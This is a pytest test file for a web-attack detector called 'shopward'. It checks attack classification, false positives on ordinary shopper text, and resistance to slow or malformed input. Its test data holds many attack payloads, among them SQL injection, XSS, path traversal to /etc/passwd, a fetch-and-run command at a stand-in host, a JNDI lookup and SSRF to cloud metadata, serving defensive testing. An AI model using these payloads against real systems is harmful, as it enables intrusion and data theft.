"""Attacks are found with their place and bytes, ordinary shoppers are left alone, and nothing a client sends takes long."""

from __future__ import annotations

import importlib.util
import json
import time
from pathlib import Path
from urllib.parse import quote

import pyarrow.parquet as pq
import pytest
import yaml

from shopward.cli import cli
from shopward.errors import MissingExtra, RulebookError
from shopward.traffic import Request
from shopward.traffic.attacks import Scanner, evidence_of, sql
from shopward.traffic.attacks.campaigns import Campaigns
from shopward.traffic.attacks.match import engine_for
from shopward.traffic.attacks.profile import Profile
from shopward.traffic.attacks.rules import load, make, shipped

HERE = Path(__file__).parent
NEAR_MISSES = (HERE / "near_misses.txt").read_text(encoding="utf-8").splitlines()
ATTACKS = yaml.safe_load((HERE / "attack_texts.yaml").read_text(encoding="utf-8"))
TEXTS = Path(__file__).with_name("shop_texts.txt").read_text(encoding="utf-8").splitlines()
HAS_HYPERSCAN = importlib.util.find_spec("hyperscan") is not None
needs_hyperscan = pytest.mark.skipif(
    not HAS_HYPERSCAN, reason="hyperscan is not installed (pip install 'shopward[traffic]')"
)
needs_sigma = pytest.mark.skipif(importlib.util.find_spec("sigma") is None, reason="pysigma is not installed")
CLASSES, RULES = shipped()


@pytest.fixture(scope="module")
def scanner():
    return Scanner(engine="literals")


def asked(value: str, **more) -> Request:
    return Request(id="1", method="GET", url=f"/search?q={quote(value, safe='', errors='surrogatepass')}", **more)


# ---- rules are content, with their examples


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
def test_every_rule_fits_its_examples_and_leaves_the_others(rule):
    def found(text):
        return rule.regex.search(text.encode() if rule.cased else text.lower().encode())

    assert rule.hits and rule.misses
    assert [t for t in rule.hits if not found(t)] == []
    assert [t for t in rule.misses if found(t)] == []


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
def test_one_of_a_rules_literals_stands_in_every_match(rule):
    for text in rule.hits:
        assert any(literal in text.lower().encode() for literal in rule.literals), text


@pytest.mark.parametrize(("name", "example"), sql.examples())
def test_every_shape_of_sql_finds_its_example(name, example):
    found = sql.find(example)
    shape = next(s for s in (sql.QUOTED if name.startswith("quoted") else sql.BARE) if name.endswith(": " + s.name))
    assert found is not None and found.score >= shape.score


@pytest.mark.parametrize(
    ("pattern", "why"),
    [
        ("(a+)+b", "a repeat without an end"),
        ("a{1,999}", "a repeat of 999"),
        ("(?:a{0,300}b){0,300}c", "90301 bytes"),
        ("(?=a)b", "looks around"),
        (r"(a)\1", "looks around"),
        (r"\w{1,9}", "nothing in the pattern must stand"),
    ],
)  # fmt: skip
def test_a_pattern_that_could_be_slow_or_needs_no_literal_is_refused(pattern, why):
    with pytest.raises(ValueError, match=why):
        make("x", "sqli", "X", pattern, 0.5)


def test_broken_rule_files_name_every_problem_with_its_line(tmp_path):
    path = tmp_path / "mine.yaml"
    path.write_text(
        "rules:\n- {id: a, class: sqli, title: A, pattern: 'x+', score: 1, hits: [x], misses: [y]}\n- {id: b}\n"
    )
    with pytest.raises(RulebookError) as error:
        load([path])
    assert str(error.value).splitlines() == [
        "mine.yaml:2:1: rule `a`: a repeat without an end (bound it: {0,40})",
        "mine.yaml:3:1: rule `b`: needs `pattern`",
    ]


def test_every_class_has_techniques_that_exist_and_every_rule_a_class():
    assert {r.cls for r in RULES} <= set(CLASSES)
    assert all(c.techniques for c in CLASSES.values())


# ---- verdicts


@pytest.mark.parametrize(
    ("value", "cls"),
    [
        ("1' or '1'='1", "sqli"),
        ("-1 union all select null,version()--", "sqli"),
        ("1;waitfor delay '0:0:5'--", "sqli"),
        ("<svg/onload=alert`1`>", "xss"),
        ('" autofocus onfocus=alert(1) x="', "xss"),
        ("javascript:alert(document.cookie)", "xss"),
        ("127.0.0.1; cat /etc/passwd", "cmdi"),
        ("a|w'h'o${IFS}am\\i", "cmdi"),
        ("$(curl http://x.example/a|sh)", "cmdi"),
        ("../../../../etc/passwd", "path-traversal"),
        ("..%252f..%252fetc%252fpasswd", "path-traversal"),
        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("http://evil.example/shell.txt?", "rfi"),
        ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "xxe"),
        ("*)(uid=*))(|(uid=*", "ldap"),
        ("'] | //user/*[contains(*,'", "xpath"),
        ('{"$ne": null}', "nosql"),
        ("a\r\nSet-Cookie: admin=1", "crlf"),
        ("php://filter/convert.base64-encode/resource=index", "php"),
        ("${jndi:ldap://x.example/a}", "java"),
        ("require('child_process').exec('id')", "node"),
        ("__import__('os').system('id')", "code"),
        ("{{7*7}}", "ssti"),
    ],
)  # fmt: skip
def test_each_class_is_named(scanner, value, cls):
    verdict = scanner.scan(asked(value))
    assert verdict.attack and cls in verdict.classes, verdict
    assert verdict.where == "query:q" and verdict.matched


@pytest.mark.parametrize(
    "place",
    [
        {"url": "/a?x=PAYLOAD"},
        {"url": "/a/PAYLOAD"},
        {"method": "POST", "body": "x=PAYLOAD", "headers": {"Content-Type": "application/x-www-form-urlencoded"}},
        {"headers": {"Cookie": "a=1; b=PAYLOAD"}},
        {"headers": {"X-Api": "PAYLOAD"}},
        {"headers": {"User-Agent": "PAYLOAD"}},
        {"headers": {"Referer": "https://x.example/?q=PAYLOAD"}},
    ],
    ids=["query", "path", "form", "cookie", "header", "agent", "referer"],
)
def test_an_attack_is_found_wherever_it_stands(scanner, place):
    wire = quote("<script>alert(1)</script>")
    filled = json.loads(json.dumps({"url": "/", "method": "GET", **place}).replace("PAYLOAD", wire))
    assert scanner.scan(Request(id="1", **filled)).classes[:1] == ("xss",)


def test_json_xml_and_multipart_values_are_looked_at_one_by_one(scanner):
    payload = "1' or '1'='1"
    body = json.dumps({"items": [{"sku": "A"}, {"sku": payload}]})
    assert scanner.scan(Request(id="1", method="POST", url="/", body=body)).where == "json:items.1.sku"
    xml = f"<?xml version='1.0'?><a><b>{payload}</b></a>"
    assert (
        "sqli"
        in scanner.scan(Request(id="1", method="POST", url="/", headers={"Content-Type": "text/xml"}, body=xml)).classes
    )
    parts = '--B\r\nContent-Disposition: form-data; name="f"; filename="a.php.jpg"\r\n\r\nx\r\n--B--'
    verdict = scanner.scan(
        Request(id="1", method="POST", url="/", headers={"Content-Type": "multipart/form-data; boundary=B"}, body=parts)
    )
    assert (verdict.classes, verdict.where) == (("upload",), "filename:f")


XML = {"Content-Type": "text/xml"}


@pytest.mark.parametrize(
    "body",
    ["<a b=\"PAYLOAD\"/>", "<a>PAYLOAD</a>", "<a><![CDATA[PAYLOAD]]></a>", "<a><!-- PAYLOAD --></a>", "<a b='1'>PAYLOAD", "<?x PAYLOAD?><a/>"],
    ids=["attribute", "text", "cdata", "comment", "cut off", "instruction"],
)  # fmt: skip
def test_every_place_of_an_xml_body_is_looked_at(scanner, body):
    request = Request(id="1", method="POST", url="/", headers=XML, body=body.replace("PAYLOAD", "1 union select 1,2,3"))
    assert "sqli" in scanner.scan(request).classes


def test_names_of_xml_elements_are_no_values_unless_they_are_java_classes(scanner):
    def asked_with(body):
        return scanner.scan(
            Request(id="1", method="POST", url="/", headers=XML, body=f"<?xml version='1.0'?><a>{body}</a>")
        )

    assert not asked_with("<rO0ABQ part='1'>x</rO0ABQ><process.builder/>").attack
    assert asked_with("<java.util.PriorityQueue/>").classes == ("java",)
    assert asked_with("<b c='rO0ABXNyABFqYXZhLnV0aWw'/>").classes == ("java",)


@pytest.mark.parametrize(
    "request_",
    [
        {"url": "/a?x%3D%26%26(b%3D0)"},
        {"url": "/a?x' or 1=1--"},
        {"url": "/a?xp_cmdshell"},
        {"url": "/a", "headers": {"Cookie": "rO0ABXNyABFqYXZh=1"}},
        {"url": "/a", "headers": {"User-Agent": "ansible-vault decrypt x"}},
        {"url": "/a", "headers": {"User-Agent": "id"}},
        {"url": "/a", "headers": {"Referer": "www.shop.example/?q=;/bin/ca?+/et*/passwd"}},
        {"url": "/a", "headers": {"X-Filename": "shell. jsp"}},
        {"url": "/a", "method": "POST", "headers": {"Content-Type": "multipart/form-data; boundary=B"},
         "body": "--B\r\nContent-Disposition: form-data; name=\"a;cat /etc/passwd\"\r\n\r\nx\r\n--B--"},
    ],
    ids=["name and value encoded as one", "an = in the payload", "no =", "name of a cookie", "agent", "bare agent", "referer's query", "spaces in a file name", "name of a part"],
)  # fmt: skip
def test_what_stands_beside_the_values_is_looked_at(scanner, request_):
    assert scanner.scan(Request(id="1", **{"method": "GET", **request_})).attack


def test_browsers_and_clients_are_no_commands(scanner):
    for agent in ("curl/8.5.0", "Wget/1.21 (linux-gnu)", "python-requests/2.32", "Java/17.0.2", "node", "git/2.43", "php 8 client", "find", "Lynx/2.9"):  # fmt: skip
        assert not scanner.scan(Request(id="1", method="GET", url="/", headers={"User-Agent": agent})).attack, agent


@pytest.mark.parametrize("wrap", ["url", "html", "unicode", "base64", "width"])
def test_wrapped_payloads_are_unwrapped_five_deep(scanner, wrap):
    import base64

    value = "<script>alert(1)</script>"
    for _ in range(5 if wrap == "url" else 1):
        value = {
            "url": lambda v: quote(v, safe=""), "html": lambda v: "".join(f"&#{ord(c)};" for c in v),
            "unicode": lambda v: "".join(f"\\u{ord(c):04x}" for c in v), "base64": lambda v: base64.b64encode(v.encode()).decode(),
            "width": lambda v: "".join(chr(ord(c) + 0xFEE0) for c in v),
        }[wrap](value)  # fmt: skip
    verdict = scanner.scan(asked(value))
    assert verdict.classes[:1] == ("xss",) and wrap in next(h.how for h in verdict.hits if h.cls == "xss")


def test_ordinary_shoppers_are_left_alone(scanner):
    """A thousand texts with quotes, SQL words, code, Chinese and emoji; one of them orders a t-shirt in the words of a shell."""
    flagged = {t for t in TEXTS if scanner.scan(asked(t)).attack}
    flagged |= {
        t
        for t in TEXTS
        if scanner.scan(Request(id="1", method="POST", url="/reviews", body=json.dumps({"text": t}))).attack
    }
    assert len(TEXTS) == 1000
    assert flagged <= {"rm -rf t-shirt"}


@pytest.mark.parametrize("cls", ATTACKS)
def test_written_attacks_of_a_class_are_found(scanner, cls):
    assert [v for v in ATTACKS[cls] if not scanner.scan(asked(v)).attack] == []


def test_texts_beside_the_rules_are_left_alone_in_query_body_and_path(scanner):
    """What shoppers, sellers and search engines write that looks like one half of an attack."""
    flagged = set()
    for text in NEAR_MISSES:
        places = (
            asked(text),
            Request(id="2", method="POST", url="/reviews", body=json.dumps({"text": text})),
            Request(id="3", method="GET", url=f"/p/{quote(text, safe='')}"),
        )
        flagged |= {(text, p.id) for p in places if scanner.scan(p).attack}
    assert flagged == set()


@pytest.mark.parametrize(
    "request_",
    [
        {"url": "/a?class.module.classLoader.resources.context.x=1"},
        {"url": "/a?user[__proto__][admin]=1"},
        {"url": "/a", "method": "POST", "body": '{"__proto__": {"admin": true}}'},
        {"url": "/a", "method": "POST", "body": '{"constructor": {"prototype": {"admin": true}}}'},
        {"url": "/a?java.lang.Runtime=1"},
    ],
    ids=str,
)
def test_names_that_no_program_gives_its_parameters_are_looked_at(scanner, request_):
    assert scanner.scan(Request(id="1", **{"method": "GET", **request_})).attack


def test_a_harmless_shape_is_no_cover_for_an_attack_of_the_same_path():
    scanner = Scanner(engine="literals")
    agent = {"user-agent": "Mozilla/5.0"}
    for i in range(3):
        assert not scanner.scan(Request(id=str(i), method="GET", url=f"/p/{i}?id={i}&f=1", headers=agent)).attack
    for url in ("/p/7?id=7'+or+1=1--&f=1", "/p/7?id=7&f=../../etc/passwd", "/p/7?id=18446744073709551615&f=1"):
        assert scanner.scan(Request(id="x", method="GET", url=url, headers=agent)).attack, url
    bad = Request(id="x", method="GET", url="/p/7?id=7&f=1", headers={"user-agent": "sqlmap/1.7#stable"})
    assert scanner.scan(bad).classes == ("scanner",)


def test_a_command_counts_where_the_parameter_is_for_commands_only(scanner):
    assert scanner.scan(Request(id="1", method="GET", url="/a?cmd=whoami")).classes == ("cmdi",)
    assert not scanner.scan(Request(id="1", method="GET", url="/a?q=whoami")).attack


@needs_hyperscan
def test_both_engines_give_the_same_verdicts():
    one, other = Scanner(engine="hyperscan"), Scanner(engine="literals")
    values = [*TEXTS[::4], *(t for r in RULES for t in (*r.hits, *r.misses)), *(e for _, e in sql.examples())]
    for value in values:
        request = asked(value)
        assert one.scan(request) == other.scan(request), value
    joined = Request(id="1", method="POST", url="/", body=json.dumps(values[:200]))
    assert one.scan(joined) == other.scan(joined)


def test_hyperscan_is_an_extra(monkeypatch):
    import sys

    monkeypatch.setitem(sys.modules, "hyperscan", None)
    assert engine_for(RULES).name == "literals"
    with pytest.raises(MissingExtra, match=r"shopward\[traffic\]"):
        engine_for(RULES, "hyperscan")


# ---- protocol, outcome, evidence


def test_breaks_of_the_protocol_are_told_but_are_no_attack(scanner):
    verdict = scanner.scan(Request(id="1", method="GET", url="/a%00b", version="HTTP/1.1", headers={"Accept": "*/*"}))
    assert not verdict.attack and verdict.protocol == ("a null byte", "no Host header")


def test_smuggling_is_an_attack(scanner):
    headers = [["Host", "a"], ["Content-Length", "4"], ["Content-Length", "5"]]
    assert scanner.scan(Request(id="1", method="POST", url="/", headers=headers, body="x=1")).classes == ("smuggling",)


def test_a_session_id_from_outside_is_fixation_and_from_the_shop_is_not(scanner):
    url = "/login?PHPSESSID=123"
    outside = {"Host": "shop.example", "Referer": "https://evil.example/"}
    own = {"Host": "shop.example", "Referer": "https://shop.example/a"}
    assert scanner.scan(Request(id="1", method="GET", url=url, headers=outside)).classes == ("session-fixation",)
    assert not scanner.scan(Request(id="1", method="GET", url=url, headers=own)).attack


@pytest.mark.parametrize(
    ("answer", "worked"),
    [
        ({"status": 200, "response_body": "root:x:0:0:root:/root:/bin/bash"}, "yes"),
        ({"status": 403}, "blocked"),
        ({"status": 404, "response_body": "not found"}, "no"),
        ({"status": 500}, "likely"),
        ({"status": 200, "response_body": "<html>welcome</html>"}, "unknown"),
        ({}, "unknown"),
    ],
)  # fmt: skip
def test_the_answer_tells_whether_an_attack_worked(scanner, answer, worked):
    assert scanner.scan(asked("../../../../etc/passwd", **answer)).worked == worked


@pytest.mark.parametrize(
    ("value", "answer", "why"),
    [
        ("rO0ABXNyABFqYXZhLnV0aWw", "java.io.InvalidClassException: x", "an error of Java came back"),
        ("system('id')", "Parse error: x in /var/www/a.php on line 3", "an error of PHP came back"),
        ("__import__('os').system('id')", "Traceback (most recent call last)", "an error of the language came back"),
        ('{"$ne": null}', "MongoServerError: unknown operator", "an error of the database came back"),
    ],
)
def test_an_error_of_what_was_attacked_tells_that_it_likely_worked(scanner, value, answer, why):
    verdict = scanner.scan(asked(value, status=200, response_body=answer))
    assert (verdict.worked, verdict.why_worked) == ("likely", why)


def test_a_session_id_that_the_answer_keeps_was_fixed(scanner):
    outside = {"Host": "shop.example", "Referer": "https://evil.example/"}
    for cookie, worked in (("PHPSESSID=abcd1234; path=/", "yes"), ("PHPSESSID=fresh9; path=/", "unknown")):
        request = Request(id="1", method="GET", url="/login?PHPSESSID=abcd1234", headers=outside, status=200, response_headers={"Set-Cookie": cookie})  # fmt: skip
        assert scanner.scan(request).worked == worked


def test_script_that_comes_back_unescaped_worked_and_escaped_did_not(scanner):
    payload = "<script>alert(1)</script>"
    assert scanner.scan(asked(payload, status=200, response_body=f"<p>{payload}</p>")).worked == "yes"
    assert scanner.scan(asked(payload, status=200, response_body="<p>&lt;script&gt;alert(1)</p>")).worked == "unknown"


def test_a_verdict_becomes_evidence_with_techniques_and_no_secrets(scanner):
    request = asked("' or card='4111 1111 1111 1111' or mail='ann@example.com'--", ip="198.51.100.7", ts=5)
    evidence = evidence_of(request, scanner.scan(request), CLASSES)
    assert (evidence.entity, evidence.source, evidence.event_ids) == ("ip:198.51.100.7", "traffic:sqli", ("1",))
    assert "T1190" in evidence.techniques
    assert "4111" not in str(evidence) and "ann@" not in str(evidence)


# ---- what is learned, what belongs together


def test_a_parameter_that_was_always_a_number_makes_a_weak_sign_count():
    plain, learned = Scanner(engine="literals"), Scanner(engine="literals", profile=Profile())
    for i in range(100):
        learned.scan(Request(id=str(i), method="GET", url=f"/items?id={i}", ip=f"198.51.100.{i}"))
    odd = Request(id="x", method="GET", url="/items?id=1%27+or+x")
    assert not plain.scan(odd).attack
    assert learned.scan(odd).classes == ("sqli",)


def test_one_address_cannot_teach_the_profile():
    profile = Profile()
    learned = Scanner(engine="literals", profile=profile)
    for i in range(60):
        learned.scan(Request(id=str(i), method="GET", url=f"/items?id={i}", ip=f"198.51.100.{i}"))
    for i in range(1000):
        learned.scan(Request(id=str(i), method="GET", url="/items?id=a%27b", ip="203.0.113.1"))
    seen = profile._seen[("/items", "query", "id")]
    assert seen["text"] <= 0.25 * sum(seen.values())


def test_variations_of_one_payload_are_one_campaign_with_a_patch_that_stops_them(scanner):
    campaigns = Campaigns()
    payloads = [f"{n}' UNION SELECT {n},{n + 1} FROM t{n}--" for n in range(20)]
    for i, value in enumerate(payloads):
        request = asked(value, ip=f"198.51.100.{i}", ts=i * 3_600_000)
        campaigns.add(request, scanner.scan(request))
    (campaign,) = campaigns.rows()
    assert (campaign["requests"], campaign["senders"], campaign["classes"]) == (20, 20, {"sqli": 20})
    patch = campaign["patch"]
    rule = make(patch["id"], patch["class"], patch["title"], patch["pattern"], patch["score"])
    assert all(rule.regex.search(p.lower().encode()) for p in payloads)
    assert not any(rule.regex.search(t.lower().encode()) for t in TEXTS)


# ---- hostile input

PIECES = (
    "'",
    "<a b=",
    "{{",
    "${",
    "%25",
    "&amp;",
    "; cat ",
    "../",
    "1 or ",
    "select a from ",
    "\\u0027",
    "$(",
    "java.lang.",
    "http://1?",
    "\n",
    "(",
    "🙂",
)


@pytest.mark.parametrize("piece", PIECES, ids=repr)
def test_time_grows_with_the_length_and_no_faster(scanner, piece):
    """Eight times the length may take at most twenty-four times as long (a quadratic would take sixty-four times)."""

    def seconds(length):
        body = "x=" + (piece * (length // len(piece) + 1))[:length].replace("&", "%26")
        times = []
        for _ in range(2):
            started = time.process_time()
            scanner.scan(
                Request(
                    id="1",
                    method="POST",
                    url="/",
                    headers={"Content-Type": "application/x-www-form-urlencoded"},
                    body=body,
                )
            )
            times.append(time.process_time() - started)
        return min(times)

    seconds(1_000)
    assert seconds(128_000) <= 24 * max(seconds(16_000), 0.002)


@pytest.mark.slow
@pytest.mark.parametrize("piece", PIECES, ids=repr)
def test_a_megabyte_of_anything_is_answered(scanner, piece):
    url = "/?x=" + quote((piece * (1_000_000 // len(piece) + 1))[:330_000], safe="")[:1_000_000]
    assert scanner.scan(Request(id="1", method="GET", url=url)).id == "1"


def test_a_hundred_thousand_parameters_with_one_attack_at_the_end(scanner):
    url = "/?" + "&".join(f"p{i}=v" for i in range(100_000)) + "&z=" + quote("' union select 1,2,3--")
    assert "sqli" in scanner.scan(Request(id="1", method="GET", url=url)).classes


@pytest.mark.parametrize(
    "body",
    [
        b"\xff\xfe\x00",
        b"\x1f\x8b\x08broken",
        b"{" * 5000,
        b"--\r\n\r\n",
        b"<" * 1000,
        "\ud800".encode("utf-8", "surrogatepass"),
    ],
)
@pytest.mark.parametrize(
    "type", ["application/json", "multipart/form-data", "text/xml", "application/x-www-form-urlencoded", ""]
)
def test_no_body_makes_the_scanner_fail(scanner, body, type):
    headers = {"Content-Type": type, "Content-Encoding": "gzip"}
    assert scanner.scan(Request(id="1", method="POST", url="/", headers=headers, body=body)).id == "1"


# ---- the command


def run(*arguments):
    from click.testing import CliRunner

    return CliRunner().invoke(cli, [str(a) for a in arguments], catch_exceptions=False)


@pytest.fixture
def req(tmp_path):
    rows = [
        {"id": "a", "method": "GET", "url": "/p?id=7", "ip": "198.51.100.1", "ts": 1},
        {"id": "b", "method": "GET", "url": "/p?id=7%27+or+1%3D1--", "ip": "198.51.100.2", "ts": 2, "status": 200},
        {"id": "c", "method": "GET", "url": "/d?f=../../etc/passwd", "ip": "198.51.100.2", "ts": 3, "status": 404},
    ]
    path = tmp_path / "req.ndjson"
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\nno json\n")
    return path


def test_the_command_writes_rows_of_the_contract_and_counts_what_it_could_not_read(req, tmp_path):
    out = tmp_path / "v.parquet"
    result = run("traffic", "attacks", req, "--out", out, "--json")
    rows = pq.read_table(out).to_pylist()
    assert [(r["id"], r["attack"], r["classes"][:1], r["where"]) for r in rows] == [
        ("a", False, [], ""),
        ("b", True, ["sqli"], "query:id"),
        ("c", True, ["path-traversal"], "query:f"),
    ]
    summary = json.loads(result.stdout)
    assert (summary["requests"], summary["attacks"], summary["dead_letters"]) == (3, 2, 1)


def test_findings_reach_the_lake(req, tmp_path):
    run("traffic", "attacks", req, "--data", tmp_path / "data")
    found = run(
        "sql",
        "select entity, source, techniques[1] t from findings order by source",
        "--data",
        tmp_path / "data",
        "--json",
    )
    assert [json.loads(line) for line in found.stdout.splitlines()] == [
        {"entity": "ip:198.51.100.2", "source": "traffic:path-traversal", "t": "T1083"},
        {"entity": "ip:198.51.100.2", "source": "traffic:sqli", "t": "T1190"},
    ]


def test_campaigns_and_resuming(req, tmp_path):
    out, campaigns = tmp_path / "v.ndjson", tmp_path / "c.json"
    run("traffic", "attacks", req, "--out", out, "--campaigns", campaigns, "--skip", 1)
    assert [json.loads(line)["id"] for line in out.read_text().splitlines()] == ["b", "c"]
    (campaign,) = json.loads(campaigns.read_text())
    assert campaign["request_ids"] == ["b", "c"] and campaign["patch"]["pattern"]


def test_one_reading_gives_attacks_interfaces_and_exposure_and_goes_on_where_it_stopped(tmp_path):
    log, out, positions = tmp_path / "access.log", tmp_path / "out", tmp_path / "positions.json"
    line = '198.51.100.{0} - - [10/Oct/2026:13:55:{0:02d} +0000] "GET /orders/{0}{1} HTTP/1.1" 200 5 "-" "x"\n'
    log.write_text("".join(line.format(i, "") for i in range(10, 40)) + line.format(40, "?q=1%27+or+1%3D1--"))
    command = ("traffic", "scan", log, "--out", out, "--resume", positions, "--engine", "literals", "--json")
    first = json.loads(run(*command).stdout)
    assert (first["requests"], first["attacks"], first["assets"]) == (31, 1, 1)
    assert pq.read_table(out / "attacks.parquet").column("where").to_pylist() == ["query:q"]
    assert pq.read_table(out / "assets.parquet").column("template").to_pylist() == ["/orders/{order_id}"]
    assert (out / "exposure.parquet").exists() and (out / "campaigns.json").exists()
    with log.open("a") as file:
        file.write(line.format(41, ""))
    assert json.loads(run(*command).stdout)["requests"] == 1


def test_requests_become_events_and_those_without_a_moment_are_counted(req, tmp_path):
    out = tmp_path / "events.ndjson"
    req.write_text(req.read_text() + '{"id": "d", "method": "GET", "url": "/"}\n')
    found = json.loads(run("traffic", "events", req, "--out", out, "--json").stdout)
    rows = [json.loads(text) for text in out.read_text().splitlines()]
    assert [(r["event_id"], r["type"], r["path"]) for r in rows] == [
        ("a", "http_request", "/p"),
        ("b", "http_request", "/p"),
        ("c", "http_request", "/d"),
    ]
    assert (found["events"], found["dead_letters"]) == (3, 2)


@needs_sigma
def test_sigma_rules_run_over_requests(req, tmp_path):
    rule = """
title: Password file over the web
id: 7e1f2c1a-0c5e-4d0b-9b5e-2f8d7c1a0001
author: Ann
level: high
tags: [attack.t1083]
logsource: {category: webserver}
detection:
  a: {cs-method: GET, cs-uri-query|contains|all: ['../', passwd]}
  keywords: ['*etc?passw*']
  b: {cs-user-agent|endswith: curl}
  condition: a and keywords and not b
"""
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "a.yml").write_text(rule)
    (tmp_path / "rules" / "b.yml").write_text(rule.replace("webserver", "process_creation"))
    out = tmp_path / "v.ndjson"
    run("traffic", "attacks", req, "--out", out, "--sigma", tmp_path / "rules")
    assert [bool(json.loads(line)["sigma"]) for line in out.read_text().splitlines()] == [False, False, True]


@needs_sigma
def test_the_web_and_proxy_rules_of_sigma_load():
    import duckdb

    from shopward.traffic.attacks.sigma import from_texts

    table = Path(__file__).parents[3] / "shared/data/rules_sigma_web_cloud_linux/sigma_rules.parquet"
    if not table.exists():
        pytest.skip("no ../shared: Sigma's own rules are not here")
    texts = duckdb.sql(f"select path, yaml from '{table}' where category in ('webserver', 'proxy')").fetchall()
    rules = from_texts(texts)
    assert len(rules.rules) == len(texts)
